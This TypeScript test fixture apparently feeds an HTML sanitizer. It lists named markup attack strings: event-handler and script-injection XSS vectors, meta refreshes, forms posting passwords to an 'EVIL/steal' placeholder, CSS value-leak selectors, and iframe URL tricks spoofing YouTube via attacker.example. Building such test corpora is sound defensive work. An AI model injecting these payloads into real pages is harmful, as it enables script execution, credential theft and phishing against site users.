import { attacks } from './attack.ts'

const handlers = attacks('handler', {
  'img-error': '<p>Look: <img src="/missing-image" onerror="RUN"></p>',
  'img-error-unquoted': '<img src=/missing-image onerror=RUN2>',
  'img-load': '<img src="/favicon.svg" onload="RUN">',
  'upper-case': '<IMG SRC="/missing-image" ONERROR="RUN">',
  'slash-separated': '<img/src="/missing-image"/onerror="RUN"/>',
  'no-space-after-quote': '<img src="/missing-image"onerror="RUN">',
  'line-feed-separated': '<img\nsrc="/missing-image"\nonerror\n=\n"RUN">',
  'form-feed-separated': '<img\fsrc="/missing-image"\fonerror="RUN">',
  'double-equals': '<img src="/missing-image" =onerror="RUN" onerror="RUN">',
  'duplicate-attribute': '<img src="/missing-image" alt="a" onerror="RUN" alt="b" onerror="RUN">',
  'animation-end': '<p onanimationstart="RUN" onanimationend="RUN" class="fade-in">x</p>',
  'focus-autofocus': '<a href="#top" autofocus tabindex="1" onfocus="RUN">x</a>',
  'content-editable': '<div contenteditable autofocus onfocus="RUN">x</div>',
  toggle: '<details open ontoggle="RUN"><summary>more</summary>text</details>',
  'body-load': '<body onload="RUN" onpageshow="RUN" onhashchange="RUN"><p>x</p></body>',
  'html-load': '<html onload="RUN" onfocus="RUN"><p>x</p></html>',
  scroll: '<div onscrollend="RUN" onwheel="RUN" onscroll="RUN"><br><br><br></div>',
  'before-match': '<section hidden="until-found" onbeforematch="RUN">x</section>',
  'pointer-raw':
    '<table onpointerrawupdate="RUN" onmouseover="RUN"><tr><td onclick="RUN">x</td></tr></table>',
  'media-error':
    '<video src="/missing" onerror="RUN"></video><audio src="/missing" onerror="RUN"></audio>',
  'source-error': '<video><source src="/missing" onerror="RUN"></video>',
  marquee: '<marquee onstart="RUN" onbounce="RUN">x</marquee>',
  'iframe-load': '<iframe src="https://www.youtube.com/embed/abc" onload="RUN"></iframe>',
  'in-allowed-tags':
    '<p onclick="RUN"><em onfocusin="RUN">x</em><code onmouseenter="RUN">y</code></p>',
})

const elements = attacks('element', {
  script: '<script>RUN</script>',
  'script-src': '<script src="EVIL/x.js"></script>',
  'script-module': '<script type="module">RUN</script>',
  'script-split': '<scr<script>ipt>RUN</scr</script>ipt>',
  'script-unclosed': '<script>RUN//',
  'script-odd-end': '<script>RUN</script\t\nfoo><script x>RUN</ script >',
  'script-null': '<scr\u0000ipt>RUN</scr\u0000ipt>',
  object: '<object data="EVIL/x.swf"></object>',
  'object-script': '<object data="javascript:RUN" type="text/html"></object>',
  embed: '<embed src="EVIL/x.swf" allowscriptaccess="always">',
  applet: '<applet code="x.class" codebase="EVIL/"></applet>',
  portal: '<portal src="EVIL/"></portal>',
  'fenced-frame': '<fencedframe src="EVIL/"></fencedframe>',
  frameset: '<frameset onload="RUN"><frame src="EVIL/"></frameset>',
  base: '<base href="EVIL/"><img src="relative.png"><a href="relative">x</a>',
  'base-target': '<base target="_top" href="EVIL/">',
  'link-style': '<link rel="stylesheet" href="EVIL/x.css">',
  'link-preload':
    '<link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/q">',
  'link-dns': '<link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL">',
  'link-modulepreload': '<link rel="modulepreload" href="EVIL/x.js">',
  'link-manifest': '<link rel="manifest" href="EVIL/m.json"><link rel="icon" href="EVIL/i.png">',
  'import-map': '<script type="importmap">{"imports":{"react":"EVIL/react.js"}}</script>',
  'speculation-rules':
    '<script type="speculationrules">{"prerender":[{"urls":["EVIL/"]}]}</script>',
  'video-poster': '<video poster="EVIL/p.png" controls></video>',
  'audio-autoplay': '<audio src="EVIL/a.mp3" autoplay></audio>',
  'input-image': '<input type="image" src="EVIL/i.png" onerror="RUN">',
  'body-background':
    '<body background="EVIL/b.png"><table background="EVIL/t.png"><tr><td>x</td></tr></table></body>',
  dialog:
    '<dialog open onclose="RUN"><form method="dialog"><button autofocus>ok</button></form></dialog>',
  popover:
    '<button popovertarget="pop">x</button><div popover id="pop" onbeforetoggle="RUN">y</div>',
  'custom-element':
    '<x-widget onclick="RUN" is="x">x</x-widget><button is="x-b" onclick="RUN">y</button>',
})

const meta = attacks('meta', {
  refresh: '<meta http-equiv="refresh" content="0;url=EVIL/">',
  'refresh-script': '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  'refresh-data': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
  'refresh-odd': '<META HTTP-EQUIV = refresh CONTENT = "0 ; URL = \'EVIL/\'">',
  'set-cookie': '<meta http-equiv="Set-Cookie" content="session=attacker">',
  csp: '<meta http-equiv="Content-Security-Policy" content="script-src *; report-uri EVIL/csp">',
  referrer: '<meta name="referrer" content="unsafe-url">',
})

const forms = attacks('form', {
  action:
    '<form action="EVIL/steal"><input name="password" autofocus><button>Sign in again</button></form>',
  'action-script': '<form action="javascript:RUN"><button id="go">x</button></form>',
  formaction:
    '<form><button formaction="javascript:RUN">x</button><input type="submit" formaction="EVIL/"></form>',
  'outer-form':
    '</div></form><form id="settings" action="EVIL/"><input type="hidden" name="role" value="admin">',
  'form-owner': '<button form="settings-form" formaction="EVIL/steal">Continue</button>',
  isindex: '<isindex action="javascript:RUN" prompt="x" type="submit">',
  'select-keygen':
    '<select autofocus onfocus="RUN"><option>x</select><keygen autofocus onfocus="RUN">',
  'textarea-dangling': '<form action="EVIL/"><input type="submit"><textarea name="page">',
})

const styles = attacks('style', {
  attribute: '<p style="background:url(EVIL/a.png)">x</p>',
  'attribute-cover':
    '<a href="#" style="position:fixed;inset:0;z-index:99999;background:url(\'EVIL/b\')">x</a>',
  'attribute-expression': '<p style="width:expression(RUN);behavior:url(EVIL/x.htc)">x</p>',
  'attribute-import': '<p style="@import \'EVIL/x.css\'">x</p>',
  element: '<style>@import "EVIL/x.css"; body { background: url(EVIL/bg) }</style>',
  'element-selector-leak': '<style>input[value^="a"] { background: url(EVIL/a) }</style>',
  'element-breakout': '<style></style><img src="/missing-image" onerror="RUN"></style>',
  'element-animation':
    '<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="RUN">x</p>',
  'class-of-the-page':
    '<div class="fixed inset-0 z-50 modal dialog-backdrop">covers the page</div>',
  'font-face': '<style>@font-face{font-family:x;src:url(EVIL/f.woff2)}*{font-family:x}</style>',
})

const frames = attacks('frame', {
  'other-host': '<iframe src="EVIL/"></iframe>',
  script: '<iframe src="javascript:parent.RUN"></iframe>',
  srcdoc: '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  'srcdoc-entities': '<iframe srcdoc="&lt;img src=x onerror=&quot;parent.RUN&quot;&gt;"></iframe>',
  'srcdoc-beside-video':
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXc" srcdoc="<script>parent.RUN</script>"></iframe>',
  data: '<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>',
  blob: '<iframe src="blob:EVIL/0000"></iframe>',
  'about-name': '<iframe src="about:blank" name="__pwned"></iframe>',
  'host-in-user':
    '<iframe src="https://www.youtube.com@attacker.example/embed/dQw4w9WgXcQ"></iframe>',
  'host-as-suffix':
    '<iframe src="https://www.youtube.com.attacker.example/embed/dQw4w9WgXcQ"></iframe>',
  'host-as-path': '<iframe src="EVIL/https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  'host-as-fragment': '<iframe src="EVIL/#youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  'id-breakout': '<iframe src="https://www.youtube.com/embed/x&quot;onload=&quot;RUN"></iframe>',
  'id-traversal': '<iframe src="https://www.youtube.com/embed/../redirect?q=EVIL"></iframe>',
  'protocol-relative': '<iframe src="//attacker.example/embed/dQw4w9WgXcQ"></iframe>',
  'own-site': '<iframe src="/api/logout"></iframe>',
  backslash: '<iframe src="https:\\\\attacker.example\\embed\\dQw4w9WgXcQ"></iframe>',
  'fallback-markup': '<iframe><img src="/missing-image" onerror="RUN"></iframe>',
  'fallback-end-tag': '<iframe src="EVIL/"></iframe/><img src="/missing-image" onerror="RUN">',
})

export const markupAttacks = [...handlers, ...elements, ...meta, ...forms, ...styles, ...frames]
